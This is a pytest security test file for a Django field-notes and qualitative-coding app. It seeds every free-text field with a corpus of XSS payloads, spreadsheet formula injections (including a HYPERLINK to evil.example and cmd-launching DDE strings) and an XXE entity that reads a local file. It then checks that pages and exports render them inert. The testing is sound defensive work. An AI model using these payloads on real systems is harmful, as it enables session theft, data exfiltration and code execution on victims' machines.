"""Stored (and reflected) XSS: a corpus of payloads in every free-text field
renders inert, in every page and in every export.

`xss_world` writes a payload into each free-text field: notes, amendment
reasons, titles, case titles, codes and categories, memos, people's names,
pseudonyms, places, the cancel reason, consent forms, group and course names,
round names, resolutions, audit summaries, report errors. Then:

- every page of the role × URL matrix, as a user who may see it, holds no
  element or script the payloads would have made (parsed HTML; runs always);
- the same pages in Chromium, with the CSP switched off so that only the
  escaping stands between a payload and the page: no dialog opens, no payload
  script runs, no payload element exists after the page's own scripts ran;
- the exports built from that course: the HTML report (parsed, and opened in
  Chromium), the PDF (no scripts or actions), CSV and XLSX (no cell a
  spreadsheet would run as a formula), the .qdc and .qdpx (well-formed XML).

Every payload marks what it would create with `data-xss`, or calls
`window.__xss.push(...)`, so a single check finds any that got through.
"""

from __future__ import annotations

import csv
import io
import json
import zipfile
from datetime import timedelta

import lxml.html
import pytest
from django.contrib.auth import get_user_model
from django.test import Client
from django.urls import reverse
from django.utils import timezone
from lxml import etree

from analysis.models import (
    CaseCoding,
    Category,
    Code,
    CodebookChange,
    CodedSegment,
    CodingRound,
    Memo,
    Report,
    Resolution,
)
from fieldnotes.models import FieldNote, IdentifierConfirmation, NoteSection, NoteVersion
from sessions.models import (
    AuditEvent,
    CasePresentation,
    ConsentForm,
    Course,
    Group,
    Meeting,
    Participant,
)
from sessions.tests.test_url_matrix import MATRIX

from .test_security_requests import permitted_user

CORPUS = [
    '<script>window.__xss.push("{n}");alert("{n}")</script>',
    '<img src=x data-xss onerror="window.__xss.push(\'{n}\');alert(\'{n}\')">',
    '"><svg data-xss onload="window.__xss.push(\'{n}\')"></svg>',
    "'><iframe data-xss srcdoc=\"<script>parent.__xss.push('{n}')</script>\"></iframe>",
    '</textarea><script>window.__xss.push("{n}")</script><textarea>',
    '</script><script>window.__xss.push("{n}")</script>',
    '<a data-xss href="javascript:window.__xss.push(\'{n}\')">link {n}</a>',
    '" autofocus onfocus="window.__xss.push(\'{n}\')" data-xss="',
    "<details data-xss open ontoggle=\"window.__xss.push('{n}')\">x</details>",
    "<math><mtext><table><mglyph><style><img data-xss src=x onerror=\"window.__xss.push('{n}')\">",
    "</style><style data-xss>body{display:none}</style>\u2028\u2029",
    "{{ request.user }}{% debug %}<b data-xss>{n}</b>",
    '=HYPERLINK("http://evil.example/?{n}","click")',
    "+cmd|' /C calc'!A{n} <b data-xss></b>",
    "-2+3+cmd|' /C calc'!A{n}",
    "@SUM(1+1)*cmd|' /C calc'!A{n}",
    "\tinjected{n}<i data-xss></i>",
]
# The charts draw payload names too; the font lacks U+2028/2029, which matplotlib mentions.
pytestmark = pytest.mark.filterwarnings("ignore:Glyph .* missing from font", "ignore:Tight layout not applied")

SHORT = "<b data-xss>{n}</b>"  # fits a 20-character pseudonym
FORMULA_STARTS = ("=", "+", "-", "@", "\t", "\r")


class Payloads:
    """Hands out the corpus in turn, each numbered, fitted to the field's length."""

    def __init__(self):
        self.count = 0

    def __call__(self, max_length: int | None = None) -> str:
        for _ in range(len(CORPUS)):
            template = CORPUS[self.count % len(CORPUS)]
            self.count += 1
            text = template.replace("{n}", f"p{self.count}")
            if max_length is None or len(text) <= max_length:
                return text
        return SHORT.replace("{n}", str(self.count))[:max_length]


def _fill(obj, payload: Payloads, *fields: str) -> None:
    for name in fields:
        setattr(obj, name, payload(obj._meta.get_field(name).max_length))
    obj.save()


@pytest.fixture
def xss_world(world):
    """The matrix's objects, with a payload in every free-text field."""
    from sessions.tests.test_url_matrix import Objects

    o = Objects(world)
    p = Payloads()
    _fill(Course.objects.get(pk=world.course.pk), p, "name", "institution", "description")
    for group in Group.objects.filter(course=world.course):
        _fill(group, p, "name", "default_place")
    for user in get_user_model().objects.all():
        _fill(user, p, "first_name", "last_name")
    for participant in Participant.objects.filter(course=world.course):
        participant.pseudonym = SHORT.replace("{n}", str(participant.pk))
        _fill(participant, p, "name")
    _fill(ConsentForm.objects.get(pk=world.form.pk), p, "title", "text")
    _fill(CasePresentation.objects.get(pk=o.case.pk), p, "title")
    _fill(Meeting.objects.get(pk=o.meeting.pk), p, "place")
    o.cancelled = Meeting.objects.create(group=world.group, number=9, starts_at=timezone.now() + timedelta(days=3),
                                         status=Meeting.Status.CANCELLED)
    _fill(o.cancelled, p, "place", "cancel_reason")

    # Notes: both sections of the submitted note, the draft's, the history.
    for section in NoteSection.objects.filter(note__in=[o.note, o.draft]):
        section.text = " ".join(p() for _ in range(3))
        section.save()
    _fill(FieldNote.objects.get(pk=o.note.pk), p, "imported_from")
    NoteVersion.objects.filter(note=o.note).update(reason=p())
    IdentifierConfirmation.objects.create(note=o.draft, text=p(200), confirmed_by=world.coleader1)

    # Analysis: the codebook, a segment over the whole section, memos, rounds, resolutions.
    for category in Category.objects.filter(course=world.course):
        _fill(category, p, "name", "description")
    for code in Code.objects.filter(course=world.course):
        _fill(code, p, "name", "definition", "when_to_use", "when_not_to_use", "example")
    section = NoteSection.objects.get(pk=o.section.pk)
    CodedSegment.objects.filter(pk=o.segment.pk).update(start=0, end=len(section.text), quote=section.text,
                                                        section_revision=section.revision)
    _fill(CaseCoding.objects.get(pk=o.case_coding.pk), p, "why")
    _fill(Memo.objects.get(pk=o.memo.pk), p, "title", "text")
    Memo.objects.create(course=world.course, author=world.researcher1, title=p(200), text=p(), code=o.code)
    Memo.objects.create(course=world.course, author=world.researcher1, title=p(200), text=p(), case=o.case)
    for coding_round in CodingRound.objects.filter(course=world.course):
        _fill(coding_round, p, "name")
    CodedSegment.objects.create(section=section, code=o.code, coder=world.researcher2, start=0, end=5,
                                quote=section.text[:5], section_revision=section.revision, round=o.closed_round)
    Resolution.objects.create(round=o.closed_round, section=section, code=o.code, decided_by=world.researcher1,
                              kept_coder=world.researcher1, why=p())
    CodebookChange.objects.create(course=world.course, actor=world.researcher1, action="edit", summary=p(300), why=p())
    AuditEvent.objects.create(course=world.course, actor=world.admin, actor_name=p(150), action="x.edit",
                              object_type="x", object_id="1", summary=p(300), changes={"field": [p(), p()]})
    Report.objects.filter(pk=o.report.pk).update(stage=p(200), error=p())
    o.failed_report = Report.objects.create(course=world.course, requested_by=world.admin, kinds=["qdc"],
                                            status=Report.Status.FAILED, error=p(), stage=p(200))
    o.payload_count = p.count
    return o


def page_urls(o, world, django_user_model) -> list[tuple[object, str]]:
    """(user, url) for every GET route of the matrix, plus pages that show the rest and reflected parameters."""
    urls = []
    for name, (build, methods, who) in sorted(MATRIX.items()):
        if "GET" not in methods or name == "analysis:report_download":
            continue
        urls.append((permitted_user(world, who, django_user_model), reverse(name, kwargs=build(o))))
    reflected = CORPUS[2].replace("{n}", "r1")
    urls += [
        (world.leader, reverse("sessions:meeting_detail", args=[o.cancelled.pk])),
        (world.admin, reverse("analysis:report_detail", args=[o.failed_report.pk])),
        (world.admin, reverse("analysis:report_status", args=[o.failed_report.pk])),
        (world.researcher1, reverse("analysis:coding_page", args=[o.section.pk]) + f"?round={o.round.pk}"),
        (world.researcher1, reverse("analysis:memo_list", args=[world.course.pk]) + "?q=" + _quote(reflected)),
        (world.researcher1, reverse("analysis:memo_new", args=[world.course.pk]) + "?next=" + _quote(reflected)
         + f"&target=code&target_id={o.code.pk}"),
        (world.researcher1, reverse("analysis:segment_search", args=[world.course.pk]) + "?date_from="
         + _quote(reflected)),
        (world.researcher1, reverse("analysis:code_new", args=[world.course.pk]) + "?category=" + _quote(reflected)),
        (None, reverse("login") + "?next=" + _quote(reflected)),
    ]
    return urls


def _quote(text: str) -> str:
    from urllib.parse import quote

    return quote(text, safe="")


# --- Parsed HTML: every page ----------------------------------------------------------------


def injected(html: str) -> list[str]:
    """What a payload would have created, found in a page's HTML."""
    tree = lxml.html.fromstring(html)
    found = [f"<{el.tag} data-xss>" for el in tree.xpath("//*[@data-xss]")]
    for script in tree.xpath("//script"):
        if not script.get("src") and script.get("type") != "application/json":
            found.append(f"inline <script>: {script.text_content()[:80]!r}")
        if script.get("type") == "application/json" and "</script" in (script.text or "").lower():
            found.append("a </script> inside JSON data")
    for el in tree.iter():
        if not isinstance(el.tag, str):
            continue
        for attr, value in el.attrib.items():
            if attr.startswith("on"):
                found.append(f"<{el.tag} {attr}=…>")
            if attr in ("href", "src", "action", "formaction") and value.strip().lower().startswith("javascript:"):
                found.append(f"<{el.tag} {attr}={value[:40]!r}>")
    # Elements the app never writes itself (its SVG charts and stylesheets are its own).
    for el in tree.xpath("//iframe|//object|//embed|//math|//base|//meta[@http-equiv]"):
        found.append(f"<{el.tag}> element")
    return found


@pytest.mark.parametrize("payload", [c for c in CORPUS if "<" in c])
def test_the_html_check_finds_what_a_payload_makes(payload):
    from django.utils.html import escape

    payload = payload.replace("{n}", "x")
    contexts = ("<div>{}</div>", '<input value="{}">', "<textarea>{}</textarea>", "<p title='{}'>x</p>",
                "<script type='application/json'>{}</script>")
    # Unescaped, each payload makes something in some context; escaped, nothing anywhere.
    assert any(injected(context.replace("{}", payload)) for context in contexts)
    for context in contexts:
        assert injected(context.replace("{}", escape(payload))) == []


def test_every_page_shows_the_payloads_as_text(world, xss_world, django_user_model):
    urls = page_urls(xss_world, world, django_user_model)
    problems = {}
    seen_payload_text = 0
    for user, url in urls:
        client = Client()
        if user is not None:
            client.force_login(user)
        response = client.get(url)
        assert response.status_code in (200, 302), f"{url}: {response.status_code}"
        if response.status_code != 200:
            continue
        if response["Content-Type"].startswith("application/json"):
            json.loads(response.content)  # data for scripts, which must put it in with textContent
            continue
        if not response["Content-Type"].startswith("text/html"):
            continue
        found = injected(response.text)
        if found:
            problems[url] = found
        seen_payload_text += response.text.count("data-xss")  # escaped: &lt;b data-xss&gt;
    assert not problems, json.dumps(problems, indent=1, ensure_ascii=False)
    assert seen_payload_text > 100  # the payloads are there, as text


def test_messages_after_saves_show_names_as_text(client, world, xss_world):
    """Success messages repeat what was typed (a code's name, a group's name)."""
    client.force_login(world.researcher1)
    name = CORPUS[1].replace("{n}", "m1")[:100]
    category = Category.objects.filter(course=world.course).first()
    response = client.post(reverse("analysis:code_new", args=[world.course.pk]),
                           {"name": name, "category": category.pk, "colour": "#123456"}, follow=True)
    assert response.status_code == 200 and "m1" in response.text
    assert injected(response.text) == []
    client.force_login(world.admin)
    response = client.post(reverse("sessions:group_new", args=[world.course.pk]),
                           {"name": CORPUS[2].replace("{n}", "m2")[:100], "capacity": 9,
                            "default_duration_minutes": 90}, follow=True)
    assert "m2" in response.text and injected(response.text) == []


# --- Chromium: every page, with the CSP switched off -----------------------------------------


@pytest.mark.browser
@pytest.mark.django_db(transaction=True)
def test_no_payload_runs_in_chromium(chromium, live_server, world, xss_world, django_user_model):
    dialogs = []
    context = chromium.new_context(base_url=live_server.url, bypass_csp=True)
    context.set_default_timeout(15_000)
    context.add_init_script("window.__xss = [];")
    page = context.new_page()
    page.on("dialog", lambda dialog: (dialogs.append((page.url, dialog.message)), dialog.dismiss()))
    errors = []
    page.on("pageerror", lambda error: errors.append((page.url, str(error))))
    signed_in_as = object()
    try:
        # The check itself works: an unescaped payload, served with the CSP off, does run.
        page.goto(reverse("login"))
        page.set_content("<p>" + "".join(c.replace("{n}", "probe") for c in CORPUS[:3]) + "</p>")
        page.wait_for_timeout(200)
        assert "probe" in page.evaluate("window.__xss") and dialogs
        dialogs.clear()
        for user, url in page_urls(xss_world, world, django_user_model):
            if url.endswith((".ics", ".css")):
                continue  # downloads and stylesheets: not pages (their content is checked above)
            if user is not signed_in_as:
                context.clear_cookies()
                if user is not None:
                    client = Client()
                    client.force_login(user)
                    context.add_cookies([{"name": "sessionid", "value": client.cookies["sessionid"].value,
                                          "url": live_server.url}])
                signed_in_as = user
            page.goto(url)
            if "/reports/" in url:
                page.wait_for_load_state("networkidle")  # the progress script fetches the status
            ran = page.evaluate("window.__xss")
            made = page.evaluate("document.querySelectorAll('[data-xss]').length")
            assert ran == [] and made == 0, f"{url}: scripts ran {ran}, {made} payload elements"
            if "/code/" in url:  # the coding page builds its text and segments in script
                assert page.locator("#coding-text").inner_text().count("window.__xss.push") > 0
    finally:
        context.close()
    assert dialogs == []
    assert [e for e in errors if "__xss" in e[1]] == []


# --- Exports ---------------------------------------------------------------------------------


@pytest.fixture
def exports(world, xss_world):
    from analysis import jobs

    report = Report(course=Course.objects.get(pk=world.course.pk), requested_by=world.admin,
                    kinds=[k for k in Report.Kind.values], include_memos=True)
    return jobs.build(report, lambda percent, stage: None).files


def _payload_cells(rows):
    return [cell for row in rows for cell in row if "xss" in cell or "calc" in cell or "evil.example" in cell
            or "injected" in cell]


def test_csv_exports_have_no_formula_cells(exports):
    names = [name for name in exports if name.endswith(".csv")]
    assert names
    checked = 0
    for name in names:
        rows = list(csv.reader(io.StringIO(exports[name].decode("utf-8-sig"))))
        for cell in _payload_cells(rows):
            assert not cell.startswith(FORMULA_STARTS), f"{name}: {cell[:60]!r}"
            checked += 1
        for row in rows:
            for cell in row:
                if cell.startswith(FORMULA_STARTS):
                    float(cell)  # only a number may start with - or +
    assert checked > 10


def test_xlsx_export_has_no_formulas_or_links(exports):
    from openpyxl import load_workbook

    data = exports["data.xlsx"]
    with zipfile.ZipFile(io.BytesIO(data)) as archive:
        for part in archive.namelist():
            if part.startswith("xl/worksheets/"):
                xml = archive.read(part)
                assert b"<f>" not in xml and b"<f " not in xml, part
                assert b"<hyperlinks" not in xml, part
    workbook = load_workbook(io.BytesIO(data))
    checked = 0
    for sheet in workbook.worksheets:
        for row in sheet.iter_rows():
            for cell in row:
                assert cell.data_type != "f", f"{sheet.title}!{cell.coordinate}: {cell.value!r}"
                assert cell.hyperlink is None
                if isinstance(cell.value, str) and cell.value.startswith(FORMULA_STARTS):
                    checked += 1
    assert checked > 3  # formula-looking payloads are there, as text


def test_html_report_is_inert(exports):
    html = exports["report.html"].decode("utf-8")
    assert "data-xss" in html  # the payloads are in the report, as text
    assert injected(html) == []
    tree = lxml.html.fromstring(html)
    assert not tree.xpath("//*[@data-xss]")
    assert not tree.xpath("//script")


@pytest.mark.browser
def test_html_report_runs_nothing_in_chromium(chromium, exports):
    context = chromium.new_context(bypass_csp=True, java_script_enabled=True)
    context.add_init_script("window.__xss = [];")
    page = context.new_page()
    dialogs = []
    page.on("dialog", lambda dialog: (dialogs.append(dialog.message), dialog.dismiss()))
    try:
        page.set_content(exports["report.html"].decode("utf-8"), wait_until="load")
        assert page.evaluate("window.__xss") == []
        assert page.evaluate("document.querySelectorAll('[data-xss]').length") == 0
    finally:
        context.close()
    assert dialogs == []


def test_pdf_report_has_no_scripts_or_actions(exports):
    pypdf = pytest.importorskip("pypdf")
    reader = pypdf.PdfReader(io.BytesIO(exports["report.pdf"]))
    root = reader.trailer["/Root"]
    assert "/OpenAction" not in root and "/AA" not in root
    assert "/JavaScript" not in root.get("/Names", {})
    for page in reader.pages:
        assert "/AA" not in page
        for annotation in page.get("/Annots") or []:
            action = annotation.get_object().get("/A") or {}
            assert action.get("/S") not in ("/JavaScript", "/Launch", "/SubmitForm", "/ImportData")
            assert not str(action.get("/URI", "")).lower().startswith("javascript:")
    text = "".join(page.extract_text() for page in reader.pages)
    assert "xss" in text  # the payloads are printed as text


def test_refi_qda_exports_are_well_formed_xml(exports):
    parser = etree.XMLParser(resolve_entities=False, no_network=True)
    etree.fromstring(exports["codebook.qdc"], parser)
    with zipfile.ZipFile(io.BytesIO(exports["project.qdpx"])) as archive:
        project = [name for name in archive.namelist() if name.endswith(".qde")]
        assert project
        root = etree.fromstring(archive.read(project[0]), parser)
        assert "data-xss" in etree.tostring(root, encoding="unicode", method="text") or \
            b"data-xss" in archive.read(project[0])


def test_refi_qda_import_does_not_resolve_external_entities(client, world, tmp_path):
    secret = tmp_path / "secret.txt"
    secret.write_text("TOP-SECRET-CONTENT")
    doc = (f'<?xml version="1.0"?><!DOCTYPE CodeBook [<!ENTITY e SYSTEM "file://{secret}">]>'
           '<CodeBook xmlns="urn:QDA-XML:codebook:1.0" origin="x"><Codes>'
           '<Code guid="11111111-1111-1111-1111-111111111111" name="&e;" isCodable="true"/></Codes></CodeBook>')
    from django.core.files.uploadedfile import SimpleUploadedFile

    client.force_login(world.researcher1)
    client.post(reverse("analysis:qda_import", args=[world.course.pk]),
                {"file": SimpleUploadedFile("book.qdc", doc.encode()), "group_name": "Imported"})
    assert not Code.objects.filter(name__contains="TOP-SECRET").exists()
    assert not CodebookChange.objects.filter(summary__contains="TOP-SECRET").exists()
